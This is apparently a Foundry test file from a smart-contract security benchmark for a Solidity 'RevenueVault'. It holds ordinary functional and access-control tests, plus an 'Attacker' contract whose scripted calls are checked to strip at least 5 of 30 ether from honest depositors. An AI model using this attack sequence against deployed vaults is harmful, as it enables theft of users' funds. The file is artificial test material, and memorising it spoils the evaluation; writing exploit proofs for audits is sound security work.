// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./RevenueVault.sol";
import {IERC20Errors} from "@openzeppelin/contracts@5.4.0/interfaces/draft-IERC6093.sol";
import {ERC20Permit} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";

// assay-canary-2681c389-4b14-498d-b085-4bb046b1eb66

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address who) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function warp(uint256 time) external;
}

contract Coin is ERC20, ERC20Permit {
    constructor() ERC20("Coin", "COIN") ERC20Permit("Coin") {
        _mint(msg.sender, 1e24);
    }
}

contract Attacker {
    RevenueVault internal vault;
    Coin internal coin;
    uint256 internal first;

    constructor(RevenueVault vault_, Coin coin_) {
        (vault, coin) = (vault_, coin_);
        coin.approve(address(vault), type(uint256).max);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(vault).call(data);
    }

    /// A single unit in the queue, and another one for later.
    function request() external {
        first = vault.requestCount();
        _try(abi.encodeCall(vault.requestDeposit, (2)));
        _try(abi.encodeCall(vault.requestDeposit, (2)));
        _try(abi.encodeCall(vault.requestDeposit, (0)));
        _try(abi.encodeCall(vault.processDeposit, (0)));
        _try(abi.encodeCall(vault.cancelDeposit, (0)));
    }

    function run() external {
        _try(abi.encodeCall(vault.processDeposit, (first)));
        // all shares but one out again
        uint256 held = vault.balanceOf(address(this));
        if (held > 1) _try(abi.encodeCall(vault.redeem, (held - 1, address(this), 0)));
        _try(abi.encodeCall(vault.transfer, (address(0xDEAD), held)));
        // coins that are only sent, and coins that are distributed, before others are processed
        coin.transfer(address(vault), 5 ether);
        _try(abi.encodeCall(vault.distribute, (40 ether)));
        _try(abi.encodeCall(vault.processDeposit, (0)));
        _try(abi.encodeCall(vault.distribute, (40 ether)));
        _try(abi.encodeCall(vault.processDeposit, (1)));
        // twice, for somebody else, and more than there is
        _try(abi.encodeCall(vault.processDeposit, (0)));
        _try(abi.encodeCall(vault.cancelDeposit, (1)));
        _try(abi.encodeCall(vault.processDeposit, (first + 1)));
        _try(abi.encodeCall(vault.redeem, (type(uint256).max, address(this), 0)));
        _try(abi.encodeCall(vault.payExpense, (address(this), 1, "")));
        _try(abi.encodeCall(vault.recoverSurplus, (address(this))));
        _try(abi.encodeCall(vault.redeem, (vault.balanceOf(address(this)), address(this), 0)));
        _try(abi.encodeCall(vault.cancelDeposit, (first + 1)));
    }

    function later() external {
        _try(abi.encodeCall(vault.redeem, (vault.balanceOf(address(this)), address(this), 0)));
        _try(abi.encodeCall(vault.redeem, (vault.totalSupply(), address(this), 0)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant MANAGER = address(0x3A4);
    address private constant TREASURY = address(0x7EA);
    address private constant PAYEE = address(0x9A7);
    address private constant VIC = address(0x51C);
    uint256 private constant KEY = 0xA9A;

    Coin private coin;
    RevenueVault private vault;
    Attacker private mallory;
    address private una;

    function setUp() public {
        vm.warp(1_768_000_000);
        coin = new Coin();
        vault = new RevenueVault(coin, MANAGER, TREASURY, 1_000 ether);
        vault.setFee(TREASURY, 50);
        mallory = new Attacker(vault, coin);
        coin.transfer(address(mallory), 100 ether);
        coin.approve(address(vault), type(uint256).max);
        una = vm.addr(KEY);
        _request(una, 20 ether);
        _request(VIC, 10 ether);
    }

    function _request(address who, uint256 assets) private {
        coin.transfer(who, assets);
        vm.prank(who);
        coin.approve(address(vault), assets);
        vm.prank(who);
        vault.requestDeposit(assets);
    }

    function _sign(uint256 assets, uint256 deadline) private returns (uint8 v, bytes32 r, bytes32 s) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, una, address(vault), assets, coin.nonces(una), deadline));
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", coin.DOMAIN_SEPARATOR(), hash)));
    }

    function _near(uint256 a, uint256 b) private pure returns (bool) {
        return a <= b && a + 1e12 >= b;
    }

    function test_Regular() public {
        require(vault.pendingAssets() == 30 ether && vault.depositRoom() == 970 ether, "requested");
        require(!vault.isSettled(0) && vault.requestAt(1).account == VIC, "waits");
        vm.warp(block.timestamp + 3 days);
        require(vault.isSettled(0), "settled");
        uint256 shares = vault.processDeposit(0);
        require(vault.managedAssets() == 19.9 ether && coin.balanceOf(TREASURY) == 0.1 ether, "fee");
        require(vault.pendingAssets() == 10 ether && vault.balanceOf(una) == shares && !vault.isSettled(0), "in");
        require(vault.maxRedeem(una) == 0, "locked");
        vault.distribute(19.9 ether);
        uint256[] memory ids = new uint256[](1);
        ids[0] = 1;
        uint256 vic = vault.processDeposits(ids);
        require(vault.balanceOf(VIC) == vic && vic * 4 <= shares + shares / 1e6 && vic * 4 >= shares - shares / 1e6, "half");
        (, uint256 value, uint256 until) = vault.positionOf(una);
        require(_near(value, 39.8 ether) && until == block.timestamp + 30 days, "position");

        // expenses
        vm.prank(MANAGER);
        vault.payExpense(PAYEE, 2 ether, "rent");
        require(coin.balanceOf(PAYEE) == 2 ether && vault.availableBudget() == 0.4875 ether, "budget");
        vm.warp(block.timestamp + 30 days);
        require(vault.availableBudget() == 2.3875 ether, "next budget");
        vm.prank(MANAGER);
        vault.payExpense(PAYEE, 2.3875 ether, "rent");

        // out again
        vm.prank(VIC);
        uint256 out = vault.redeem(vic / 2, PAYEE, 4 ether);
        require(coin.balanceOf(PAYEE) == 4.3875 ether + out && _near(out, 4.53625 ether), "redeemed");
        vm.prank(una);
        vault.transfer(VIC, shares / 2);
        vm.prank(una);
        vault.approve(VIC, shares);
        vm.prank(VIC);
        vault.transferFrom(una, VIC, shares / 4);
        require(vault.maxRedeem(VIC) == vic - vic / 2 + shares / 2 + shares / 4, "moved");

        // a request that is cancelled, and one with a signature
        _request(VIC, 3 ether);
        vm.prank(VIC);
        vault.cancelDeposit(2);
        require(vault.pendingAssets() == 0 && coin.balanceOf(VIC) == 3 ether, "cancelled");
        coin.transfer(una, 2 ether);
        (uint8 v, bytes32 r, bytes32 s) = _sign(1 ether, block.timestamp);
        vm.prank(una);
        vault.requestDepositWithPermit(1 ether, block.timestamp, v, r, s);
        (v, r, s) = _sign(1 ether, block.timestamp);
        coin.permit(una, address(vault), 1 ether, block.timestamp, v, r, s);
        vm.prank(una);
        vault.requestDepositWithPermit(1 ether, block.timestamp, v, r, s);
        require(vault.pendingAssets() == 2 ether && coin.balanceOf(una) == 0, "signed");

        // what was sent
        coin.transfer(address(vault), 7 ether);
        require(vault.surplus() == 7 ether && vault.recoverSurplus(PAYEE) == 7 ether && vault.surplus() == 0, "surplus");
        require(coin.balanceOf(address(vault)) == vault.managedAssets() + vault.pendingAssets(), "books");
        Coin other = new Coin();
        other.transfer(address(vault), 1 ether);
        vault.recoverToken(other, PAYEE);
        require(other.balanceOf(PAYEE) == 1 ether, "recovered");

        // administration
        vault.setDepositCap(1 ether);
        require(vault.depositCap() == 1 ether && vault.depositRoom() == 0, "cap");
        vault.setManager(VIC);
        require(vault.manager() == VIC, "manager");
        vault.pause();
        require(vault.paused(), "paused");
        vault.unpause();
        vault.transferOwnership(VIC);
        vm.prank(VIC);
        vault.acceptOwnership();
        vm.prank(VIC);
        vault.renounceOwnership();
        require(vault.owner() == address(0), "renounced");
    }

    /// What the two can get out, from the queue or from the vault.
    function recoverable() public view returns (uint256 sum) {
        for (uint256 id = 0; id < 2; ++id) {
            sum += vault.requestAt(id).assets;
        }
        sum += vault.convertToAssets(vault.balanceOf(una)) + vault.convertToAssets(vault.balanceOf(VIC));
        sum += coin.balanceOf(una) + coin.balanceOf(VIC);
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesOutsiders() public {
        bytes memory notOwner = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, VIC);
        refuses(VIC, notOwner);
        vault.setManager(VIC);
        refuses(VIC, notOwner);
        vault.setFee(VIC, 0);
        refuses(VIC, notOwner);
        vault.setDepositCap(0);
        refuses(VIC, notOwner);
        vault.pause();
        refuses(VIC, notOwner);
        vault.recoverSurplus(VIC);
        refuses(VIC, notOwner);
        vault.recoverToken(vault, VIC);
        refuses(VIC, notOwner);
        vault.transferOwnership(VIC);
        refuses(VIC, notOwner);
        vault.renounceOwnership();
        refuses(VIC, notOwner);
        vault.acceptOwnership();
        refuses(VIC, abi.encodeWithSelector(IRevenueVault.NotManager.selector, VIC));
        vault.payExpense(VIC, 0, "");
        vault.pause();
        refuses(VIC, notOwner);
        vault.unpause();
    }

    function test_RefusesWhilePaused() public {
        vault.pause();
        refuses(VIC, Pausable.EnforcedPause.selector);
        vault.requestDeposit(0);
        refuses(VIC, Pausable.EnforcedPause.selector);
        vault.requestDepositWithPermit(0, 0, 0, 0, 0);
    }

    function test_RefusesSettings() public {
        vm.expectRevert(abi.encodeWithSelector(IRevenueVault.BadAddress.selector, address(0)));
        vault.setManager(address(0));
        vm.expectRevert(abi.encodeWithSelector(IRevenueVault.BadAddress.selector, address(0)));
        vault.setFee(address(0), 0);
        vm.expectRevert(abi.encodeWithSelector(IRevenueVault.BadAddress.selector, address(vault)));
        vault.setFee(address(vault), 0);
        vm.expectRevert(abi.encodeWithSelector(IRevenueVault.FeeTooHigh.selector, 101, 100));
        vault.setFee(TREASURY, 101);
        vm.expectRevert(abi.encodeWithSelector(IRevenueVault.BadAddress.selector, address(coin)));
        vault.recoverToken(coin, TREASURY);
    }

    function test_RefusesRequests() public {
        coin.transfer(VIC, 971 ether);
        vm.prank(VIC);
        coin.approve(address(vault), 971 ether);
        refuses(VIC, abi.encodeWithSelector(IRevenueVault.CapExceeded.selector, 970 ether));
        vault.requestDeposit(970 ether + 1);
        refuses(VIC, DepositQueue.EmptyRequest.selector);
        vault.requestDeposit(0);
        refuses(VIC, abi.encodeWithSelector(DepositQueue.UnknownRequest.selector, 0));
        vault.cancelDeposit(0);
        refuses(VIC, abi.encodeWithSelector(DepositQueue.UnknownRequest.selector, 2));
        vault.cancelDeposit(2);
        vm.expectRevert(abi.encodeWithSelector(DepositQueue.NotSettledYet.selector, block.timestamp + 3 days));
        vault.processDeposit(0);
        vm.warp(block.timestamp + 3 days);
        vault.processDeposit(0);
        vm.expectRevert(abi.encodeWithSelector(DepositQueue.UnknownRequest.selector, 0));
        vault.processDeposit(0);
    }

    function test_RefusesLockedShares() public {
        vm.warp(block.timestamp + 3 days);
        uint256 shares = vault.processDeposit(0);
        uint256 until = block.timestamp + 30 days;
        refuses(una, abi.encodeWithSelector(IRevenueVault.SharesLocked.selector, until));
        vault.redeem(shares, una, 0);
        refuses(una, abi.encodeWithSelector(IRevenueVault.SharesLocked.selector, until));
        vault.transfer(VIC, shares);
        vm.warp(until);
        uint256 value = vault.convertToAssets(shares);
        refuses(una, abi.encodeWithSelector(IRevenueVault.TooFewAssets.selector, value, value + 1));
        vault.redeem(shares, una, value + 1);
        refuses(una, abi.encodeWithSelector(IERC20Errors.ERC20InsufficientBalance.selector, una, shares, shares + 1));
        vault.redeem(shares + 1, una, 0);
        vm.prank(una);
        vault.redeem(shares, una, value);
    }

    function test_RefusesExpenses() public {
        vm.warp(block.timestamp + 3 days);
        uint256 shares = vault.processDeposit(0);
        refuses(MANAGER, abi.encodeWithSelector(ExpenseBudget.OverBudget.selector, 1 ether, 0.995 ether));
        vault.payExpense(PAYEE, 1 ether, "");
        // what is left of a period may be more than the vault manages by then
        vm.warp(block.timestamp + 30 days);
        vm.prank(MANAGER);
        vault.payExpense(PAYEE, 0, "");
        vm.prank(una);
        vault.redeem(shares, una, 0);
        vm.prank(MANAGER);
        vm.expectRevert();
        vault.payExpense(PAYEE, 0.5 ether, "");
    }

    function exploit() public {
        mallory.request();
        vm.warp(block.timestamp + 3 days);
        mallory.run();
        vm.warp(block.timestamp + 30 days);
        mallory.later();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 30 ether && recoverable() <= 25 ether, "all is there");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
